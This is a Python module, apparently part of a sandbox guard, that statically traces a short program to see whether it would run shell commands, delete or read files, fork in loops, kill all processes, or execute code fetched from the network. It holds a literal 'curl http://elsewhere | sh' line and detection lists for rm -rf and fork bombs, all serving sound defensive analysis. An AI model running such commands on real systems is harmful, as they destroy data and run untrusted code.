"""What a short Python program would do: constants are followed through it, nothing is run."""

from __future__ import annotations

import ast
import base64
import re
from collections.abc import Callable, Sequence

from sage_gym.sandbox.guard.commands import BOMB
from sage_gym.sandbox.guard.deeds import Deeds
from sage_gym.sandbox.guard.places import UNKNOWN

__all__ = ["read_python"]

FETCHED = f"{UNKNOWN}fetched"
"""What comes from the network."""
MODULES = frozenset({"os", "shutil", "subprocess", "pathlib"})
SHELL_NAMES = frozenset(
    {"system", "popen", "getoutput", "getstatusoutput", "run", "call", "check_call", "check_output", "Popen"}
)
DELETERS = {"rmtree": "-rf", "remove": "-f", "unlink": "-f", "rmdir": "-f", "removedirs": "-rf"}
WRITERS = frozenset({"write_text", "write_bytes", "touch", "symlink_to", "hardlink_to"})
READERS = frozenset({"read_text", "read_bytes"})
LISTERS = frozenset({"listdir", "walk", "scandir", "glob", "iterdir", "rglob"})
TWO_PATHS = {
    "copy": "cp",
    "copyfile": "cp",
    "copy2": "cp",
    "copytree": "cp",
    "move": "mv",
    "rename": "mv",
    "replace": "mv",
}
CHANGERS = {
    "chmod": ["chmod", "x"],
    "chown": ["chown", "x"],
    "truncate": ["truncate"],
    "symlink": ["ln", "x"],
    "link": ["ln", "x"],
}


def read_python(code: str) -> Deeds | None:
    """Return what a program does, None where it is no Python."""
    try:
        tree = ast.parse(code)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return None
    reader = _Reader()
    reader.visit(tree)
    return reader.deeds


class _Reader(ast.NodeVisitor):
    """Walks a program and notes what it calls with texts that are known."""

    def __init__(self) -> None:
        self.deeds = Deeds()
        self._known: dict[str, str] = {}
        self._loops = self._endless = 0

    def visit_Assign(self, node: ast.Assign) -> None:
        value = self.text(node.value)
        self._known.update({target.id: value for target in node.targets if isinstance(target, ast.Name)})
        self.generic_visit(node)

    def visit_While(self, node: ast.While) -> None:
        is_endless = isinstance(node.test, ast.Constant) and bool(node.test.value)
        self._endless += is_endless
        self._loop(node)
        self._endless -= is_endless

    def visit_For(self, node: ast.For) -> None:
        self._bind(node.target, node.iter)
        self._loop(node)

    def visit_ListComp(self, node: ast.ListComp) -> None:
        for generator in node.generators:
            self._bind(generator.target, generator.iter)
        self._loop(node)

    def _bind(self, target: ast.expr, source: ast.expr) -> None:
        if isinstance(target, ast.Tuple) and target.elts and isinstance(target.elts[0], ast.Name):  # of os.walk
            self._known[target.elts[0].id] = self.text(source)
        elif isinstance(target, ast.Name):
            text = self.text(source)
            self._known[target.id] = text if text.startswith(("/", "~")) else UNKNOWN

    def _loop(self, node: ast.AST) -> None:
        self._loops += 1
        self.generic_visit(node)
        self._loops -= 1

    def visit_Call(self, node: ast.Call) -> None:
        self.generic_visit(node)
        name, own = _name_of(node), self._owner(node)
        if isinstance(node.func, ast.Call) and _name_of(node.func) == "getattr" and len(node.func.args) > 1:
            name = self.text(node.func.args[1])
        values = [self.text(argument) for argument in node.args]
        is_path = own.startswith(("/", "~", ".", UNKNOWN))
        target = own if is_path else values[0] if values else ""
        if name == "Popen" and self._endless:
            self.deeds.calls.append([BOMB])
        elif name in SHELL_NAMES or re.fullmatch(r"(exec|spawn)[lv]\w*", name):
            self._run(node, values, name)
        elif name in ("exec", "eval") and values:
            self._run_text(values[0])
        elif name == "open" and (is_path or own in ("", "os", "io")):
            self._open(node, target, values[0 if is_path else 1 :])
        elif name == "fork" and self._loops:
            self.deeds.calls.append([BOMB])
        elif name == "kill" and values[:1] in (["-1"], ["1"]):
            self.deeds.calls.append(["kill", "-9", values[0]])
        elif target:
            self._touch(name, target, values, is_path=is_path)

    def _touch(self, name: str, target: str, values: Sequence[str], *, is_path: bool) -> None:
        """Note what is done to a path: by a function that is given it, or by a method of it."""
        calls = self.deeds.calls
        if name in DELETERS:
            calls.append(["rm", DELETERS[name], target])
        elif name in WRITERS and is_path:
            self.deeds.writes.append(target)
        elif name in READERS and is_path:
            calls.append(["cat", target])
        elif name in TWO_PATHS and len(values) > (0 if is_path else 1):
            calls.append([TWO_PATHS[name], *([target, values[0]] if is_path else values[:2])])
        elif name in CHANGERS:
            calls.append([*CHANGERS[name], target])
        elif name in ("write", "add") and values and values[0].startswith(("/", "~")):  # to an archive
            calls.append(["cat", values[0]])
        elif name in LISTERS:
            calls.append(["ls", target])

    def _open(self, node: ast.Call, target: str, rest: Sequence[str]) -> None:
        modes = [*rest[:1], *(self.text(k.value) for k in node.keywords if k.arg == "mode")]
        if modes and re.search(r"[wax+]", modes[0]):
            self.deeds.writes.append(target)
        else:
            self.deeds.calls.append(["cat", target])

    def _run(self, node: ast.Call, values: Sequence[str], name: str) -> None:
        lists = [a for a in node.args if isinstance(a, (ast.List, ast.Tuple))]
        if lists:
            self.deeds.calls.append([self.text(element) for element in lists[0].elts])
        elif name.startswith(("exec", "spawn")):
            self.deeds.calls.append(list(values[1:] or values))
        elif values:
            self.deeds.scripts.append(values[0])

    def _run_text(self, text: str) -> None:
        if text == FETCHED:
            self.deeds.scripts.append("curl http://elsewhere | sh")
        inner = None if UNKNOWN in text else read_python(text)
        if inner is not None:
            self.deeds.calls += inner.calls
            self.deeds.scripts += inner.scripts
            self.deeds.writes += inner.writes

    def _owner(self, node: ast.Call) -> str:
        own = self.text(node.func.value) if isinstance(node.func, ast.Attribute) else ""
        return "" if own in MODULES else own

    def text(self, node: ast.AST) -> str:
        """Return the text that an expression stands for, `UNKNOWN` where that cannot be told."""
        if isinstance(node, ast.Constant):
            return node.value.decode("utf-8", "replace") if isinstance(node.value, bytes) else str(node.value)
        read = EXPRESSIONS.get(type(node))
        return read(self, node) if read else UNKNOWN

    def _called(self, node: ast.Call) -> str:
        name, own = _name_of(node), self._owner(node)
        values = [self.text(argument) for argument in node.args]
        if (name in ("urlopen", "get", "urlretrieve") and values and values[0].startswith("http")) or own == FETCHED:
            return FETCHED
        if FETCHED in values:
            return FETCHED
        given = CALLED.get(name)
        return given(own, values) if given else UNKNOWN


def _name_of(node: ast.Call) -> str:
    return node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")


def _unary(reader: _Reader, node: ast.UnaryOp) -> str:
    return f"-{reader.text(node.operand)}" if isinstance(node.op, ast.USub) else UNKNOWN


def _named(reader: _Reader, node: ast.Name) -> str:
    return reader._known.get(node.id, node.id if node.id in MODULES else UNKNOWN)


def _formatted(reader: _Reader, node: ast.JoinedStr) -> str:
    return "".join(reader.text(v.value if isinstance(v, ast.FormattedValue) else v) for v in node.values)


def _joined(reader: _Reader, node: ast.BinOp) -> str:
    if not isinstance(node.op, (ast.Add, ast.Div)):
        return UNKNOWN
    return reader.text(node.left) + ("/" if isinstance(node.op, ast.Div) else "") + reader.text(node.right)


def _indexed(reader: _Reader, node: ast.Subscript) -> str:
    if not isinstance(node.slice, ast.Slice) and reader.text(node.slice) == "HOME":
        return "~"
    return FETCHED if reader.text(node.value) == FETCHED else UNKNOWN


def _attribute(reader: _Reader, node: ast.Attribute) -> str:
    if node.attr == "sep" and reader.text(node.value) == "os":
        return "/"
    return FETCHED if reader.text(node.value) == FETCHED else UNKNOWN


EXPRESSIONS: dict[type[ast.AST], Callable[..., str]] = {
    ast.UnaryOp: _unary,
    ast.Name: _named,
    ast.JoinedStr: _formatted,
    ast.BinOp: _joined,
    ast.Subscript: _indexed,
    ast.Attribute: _attribute,
    ast.Call: _Reader._called,
}


def _same(own: str, values: Sequence[str]) -> str:
    return "/".join(values) or own


def _decoded(own: str, values: Sequence[str]) -> str:
    try:
        return base64.b64decode((values or [own])[0]).decode("utf-8", "replace")
    except ValueError:
        return UNKNOWN


def _from_hex(own: str, values: Sequence[str]) -> str:
    try:
        return bytes.fromhex((values or [own])[0]).decode("utf-8", "replace")
    except ValueError:
        return UNKNOWN


def _listed(own: str, values: Sequence[str]) -> str:
    return f"{own or (values[0] if values else '')}/*"


def _path_joined(own: str, values: Sequence[str]) -> str:
    return "/".join([own, *values] if own and own != UNKNOWN else values)


def _globbed(own: str, values: Sequence[str]) -> str:
    return "/".join([*([own] if own.startswith(("/", "~")) else []), *values])


def _variable(own: str, values: Sequence[str]) -> str:
    del own
    return "~" if values[:1] == ["HOME"] else UNKNOWN


CALLED: dict[str, Callable[[str, Sequence[str]], str]] = {
    **dict.fromkeys(
        ["expanduser", "Path", "PurePath", "abspath", "str", "realpath", "resolve", "listdir", "iglob"], _same
    ),
    **dict.fromkeys(["join", "joinpath"], _path_joined),
    **dict.fromkeys(["iterdir", "rglob", "walk", "scandir"], _listed),
    **dict.fromkeys(["getenv", "get"], _variable),
    "glob": _globbed,
    "home": lambda *_: "~",
    "getcwd": lambda *_: ".",
    "__import__": lambda _, values: values[0] if values else UNKNOWN,
    "b64decode": _decoded,
    "fromhex": _from_hex,
    "decode": lambda own, _: own,
    "encode": lambda own, _: own,
}
